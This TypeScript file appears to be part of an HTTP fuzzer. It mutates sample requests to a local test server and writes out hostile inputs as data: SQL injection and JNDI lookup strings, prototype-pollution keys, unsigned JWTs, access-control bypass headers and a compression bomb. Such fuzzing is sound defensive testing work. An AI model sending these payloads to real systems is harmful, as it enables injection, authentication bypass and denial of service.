/** Requests of one endpoint: a right one, and what an attacker makes of it. */
import { brotliCompressSync, constants, deflateSync, gzipSync } from 'node:zlib';
import type { Dice } from './dice.ts';
import { encodings, keys, texts } from './hostile.ts';
import { mutatedText, mutatedTree, printed, type Tree, treeOf } from './tree.ts';

/** What fills an endpoint so that it answers with a success. */
export interface Sample {
  /** By the names of the path's parameters. */
  readonly params?: Readonly<Record<string, string>>;
  readonly query?: Readonly<Record<string, string>>;
  readonly body?: unknown;
  /** A body that is no JSON. */
  readonly file?: { readonly type: string; readonly text: string };
  readonly headers?: Readonly<Record<string, string>>;
}

/** A request before it is bytes. */
export interface Draft {
  readonly method: string;
  /** Encoded. */
  readonly path: string;
  /** Encoded. */
  readonly query: readonly (readonly [string, string])[];
  readonly headers: readonly (readonly [string, string])[];
  readonly body?: Buffer;
}

type Pair = readonly [string, string];
type Parts = {
  readonly params: Readonly<Record<string, string>>;
  readonly query: readonly Pair[];
  readonly body: Tree | undefined;
  readonly file: string | undefined;
};

const parameter = /:([A-Za-z_]\w*)/g;

/** The sample as it is. */
export function draftOf(method: string, path: string, sample: Sample): Draft {
  return assembled(method, path, sample, partsOf(sample));
}

/** The sample with one thing about it changed, or a few. */
export function mutatedDraft(
  method: string,
  path: string,
  sample: Sample,
  words: readonly Pair[],
  dice: Dice,
): Draft {
  let parts = partsOf(sample);
  let late: ((draft: Draft) => Draft)[] = [];
  for (let left = dice.rarely(3) ? 3 : 1; left > 0; left -= 1) {
    const places = [
      ...(sample.file === undefined ? [] : (['file', 'file', 'file'] as const)),
      ...(parts.body === undefined ? [] : (['body', 'body', 'body', 'body', 'body'] as const)),
      ...(path.includes(':') ? (['params'] as const) : []),
      ...(['query', 'query', 'query', 'bytes', 'headers'] as const),
    ];
    const place = dice.one(places);
    if (place === 'body') {
      parts = { ...parts, body: mutatedTree(parts.body ?? treeOf({}), dice) };
    } else if (place === 'file') {
      parts = { ...parts, file: mutatedText(parts.file ?? '', dice) };
    } else if (place === 'params') {
      parts = { ...parts, params: mutatedParams(path, parts.params, dice) };
    } else if (place === 'query') {
      parts = { ...parts, query: mutatedQuery(parts.query, words, dice) };
    } else {
      late = [...late, place === 'bytes' ? bytesChanged(dice) : headersChanged(dice)];
    }
  }
  return late.reduce((draft, change) => change(draft), assembled(method, path, sample, parts));
}

function partsOf({ params = {}, query = {}, body, file }: Sample): Parts {
  return {
    params,
    query: Object.entries(query),
    body: body === undefined ? undefined : treeOf(body),
    file: file?.text,
  };
}

function assembled(method: string, path: string, sample: Sample, parts: Parts): Draft {
  const { file } = sample;
  const body =
    parts.file === undefined
      ? parts.body && Buffer.from(printed(parts.body))
      : Buffer.from(parts.file);
  const type = file?.type ?? 'application/json';
  return {
    method,
    path: path.replace(parameter, (_, name: string) => encoded(parts.params[name] ?? 'x')),
    query: parts.query.map(([name, value]) => [encoded(name), encoded(value)]),
    headers: [
      ...Object.entries(sample.headers ?? {}),
      ...(body === undefined ? [] : [['content-type', type] as const]),
    ],
    ...(body === undefined ? {} : { body }),
  };
}

/** Lone surrogates have no encoding in UTF-8: what encoders of other languages write for them. */
function encoded(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return encodeURIComponent(text.replace(/\p{Surrogate}/gu, '\u0001')).replaceAll(
      '%01',
      '%ed%a0%80',
    );
  }
}

function mutatedParams(path: string, params: Parts['params'], dice: Dice): Parts['params'] {
  const name = dice.one([...path.matchAll(parameter)].map((match) => match[1] ?? ''));
  return { ...params, [name]: mutatedText(params[name] ?? '', dice) };
}

function mutatedQuery(query: readonly Pair[], words: readonly Pair[], dice: Dice): readonly Pair[] {
  const at = dice.below(query.length + 1);
  const [name, value] = query[Math.min(at, query.length - 1)] ?? ['a', '1'];
  switch (dice.below(6)) {
    case 0: {
      const [word, right] = words.length === 0 ? (['a', '1'] as const) : dice.one(words);
      return [...query, [word, dice.rarely(2) ? right : mutatedValue(right, dice)]];
    }
    case 1:
      return query.toSpliced(at, 0, [dice.one(keys), dice.one(texts)]);
    case 2:
      return query.toSpliced(at, 1, [mutatedText(name, dice), value]);
    case 3:
      return Array.from({ length: dice.one([2, 100, 2_001]) }, () => [name, value] as const);
    default:
      return query.toSpliced(at, 1, [name, mutatedValue(value, dice)]);
  }
}

/** Trees in a parameter are changed as trees, mostly, and as long as they are some. */
function mutatedValue(value: string, dice: Dice): string {
  const tree = /^[[{]/.test(value) && !dice.rarely(4) ? parsed(value) : undefined;
  return tree === undefined ? mutatedText(value, dice) : printed(mutatedTree(tree, dice));
}

function parsed(text: string): Tree | undefined {
  try {
    return treeOf(JSON.parse(text));
  } catch {
    return undefined;
  }
}

/** Changes to what was encoded already. */
function bytesChanged(dice: Dice): (draft: Draft) => Draft {
  const piece = dice.one(encodings);
  return (draft) => {
    const { path, query, body } = draft;
    switch (dice.below(7)) {
      case 0: {
        const at = dice.below(path.length) + 1;
        return { ...draft, path: path.slice(0, at) + piece + path.slice(at) };
      }
      case 1:
        return { ...draft, query: [...query, [piece, dice.one(encodings)]] };
      case 2:
        return { ...draft, query: query.map(([name, value]) => [name, value + piece]) };
      case 3:
        return { ...draft, path: dice.one([`/${path}`, `${path}/`, `${path}//`, `/./${path}`]) };
      case 4:
        return { ...draft, method: dice.one(['HEAD', 'OPTIONS', 'PATCH', 'PUT', 'TRACE', 'POST']) };
      case 5:
        return {
          ...draft,
          path: dice.one(['/sites/', '/site/']) + dice.one(texts).slice(0, 9) + path,
        };
      default:
        return body === undefined ? draft : { ...draft, body: bodyChanged(body, dice) };
    }
  };
}

function bodyChanged(body: Buffer, dice: Dice): Buffer {
  const at = dice.below(body.length + 1);
  const piece = dice.one([
    Buffer.from([0xff]),
    Buffer.from([0xc0, 0xaf]),
    Buffer.from([0xed, 0xa0, 0x80]),
    Buffer.from([0]),
    Buffer.from('\ufeff'),
    Buffer.from('"'),
    Buffer.from(','),
    Buffer.alloc(0),
  ]);
  return dice.rarely(3)
    ? body.subarray(0, at)
    : Buffer.concat([body.subarray(0, at), piece, body.subarray(at)]);
}

const types = [
  '',
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-16',
  'application/json; charset="utf-8"; charset=latin1',
  'application/vnd.api+json',
  'text/csv',
  'application/x-ndjson',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'multipart/form-data; boundary=--',
  'APPLICATION/JSON',
  'application/json, text/plain',
];

const plain: readonly Pair[] = [
  ['accept', 'application/xml'],
  ['accept', 'text/csv;q=abc'],
  ['accept-encoding', 'gzip;q=1.0, *;q=0'],
  ['range', 'bytes=0-0,1-1,-1'],
  ['if-none-match', '*'],
  ['if-match', '"x"'],
  ['prefer', 'return=representation'],
  ['x-http-method-override', 'DELETE'],
  ['x-forwarded-for', '127.0.0.1'],
  ['x-forwarded-host', 'example.com'],
  ['x-request-id', "'; drop table doc; --"],
  ['x-request-id', `\${jndi:ldap://example.com}`],
  ['x-original-url', '/admin/tenants'],
  ['cookie', 'token=abc; __proto__=1'],
  ['origin', 'null'],
  ['origin', 'https://example.com\t'],
  ['access-control-request-method', 'DELETE'],
  ['expect', '100-continue'],
  ['x-app-slug', '__proto__'],
  ['x-tenant', '__proto__'],
  ['x-tenant', "x'; --"],
  ['x-api-key', 'e30.e30.'],
  ['x-session-token', 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.'],
  ['x-tapis-token', 'a.b.c'],
  ['__proto__', '1'],
  ['constructor', '1'],
];

function headersChanged(dice: Dice): (draft: Draft) => Draft {
  return (draft) => {
    const { headers, body } = draft;
    const without = headers.filter(([name]) => name !== 'content-type');
    if (body === undefined || dice.rarely(2)) {
      return { ...draft, headers: [...headers, dice.one(plain)] };
    }
    switch (dice.below(4)) {
      case 0:
        return { ...draft, headers: [...without, ['content-type', dice.one(types)]] };
      case 1:
        return packed(draft, dice);
      case 2: {
        const coding = dice.one(['gzip', 'br', 'deflate', 'compress', 'gzip, gzip', 'zstd']);
        return { ...draft, headers: [...headers, ['content-encoding', coding]] };
      }
      default:
        return { ...draft, headers: [...headers, ['content-type', dice.one(types)]] };
    }
  };
}

const bomb = Buffer.concat([Buffer.from('{"a":"'), Buffer.alloc(24 * 1024 * 1024, 0x61)]);
// Brotli's best is slow on purpose; its fastest is as good a bomb.
const brotli = (bytes: Buffer): Buffer =>
  brotliCompressSync(bytes, { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } });
const codings = [
  { name: 'gzip', pack: gzipSync, bomb: gzipSync(bomb) },
  { name: 'deflate', pack: deflateSync, bomb: deflateSync(bomb) },
  { name: 'br', pack: brotli, bomb: brotli(bomb) },
];

/** Compressed as announced: now and then far more than it looks, or cut short. */
function packed(draft: Draft, dice: Dice): Draft {
  const coding = dice.one(codings);
  const bytes = dice.rarely(8) ? coding.bomb : coding.pack(draft.body ?? Buffer.alloc(0));
  return {
    ...draft,
    body: dice.rarely(6) ? bytes.subarray(0, bytes.length - 2) : bytes,
    headers: [...draft.headers, ['content-encoding', coding.name]],
  };
}

/** Bytes for the wire; the connection ends with the answer. */
export function bytesOf(draft: Draft, more: readonly Pair[]): Buffer {
  const query = draft.query.map(([name, value]) => `${name}=${value}`).join('&');
  // Raw spaces and line ends would make another request of it: those have a test of their own.
  const target = `${draft.path}${query === '' ? '' : `?${query}`}`.replaceAll(
    /[\s\p{Cc}]/gu,
    '%20',
  );
  const { body } = draft;
  const lines = [
    `${draft.method} ${target} HTTP/1.1`,
    'host: 127.0.0.1',
    'connection: close',
    ...[...more, ...draft.headers].map(([name, value]) => `${name}: ${value}`),
    ...(body === undefined ? [] : [`content-length: ${body.length}`]),
  ];
  const head = Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1');
  return body === undefined ? head : Buffer.concat([head, body]);
}
